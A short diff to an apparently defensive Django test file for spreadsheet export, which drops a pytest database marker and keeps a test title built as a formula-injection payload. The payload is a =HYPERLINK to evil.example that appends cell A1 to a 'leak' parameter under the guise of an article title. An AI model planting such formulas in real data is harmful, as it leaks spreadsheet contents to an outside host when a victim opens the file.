@@ -10,8 +10,6 @@ from django.urls import reverse
 from articles.models import ConditionArticlePage
 from spa_site.spreadsheets import FORMULA_TRIGGERS, neutralise
 
-pytestmark = pytest.mark.django_db
-
 TITLE = (
     '=HYPERLINK("https://evil.example/?leak="&A1,"Back spasm: causes, relief and when to worry")'
 )
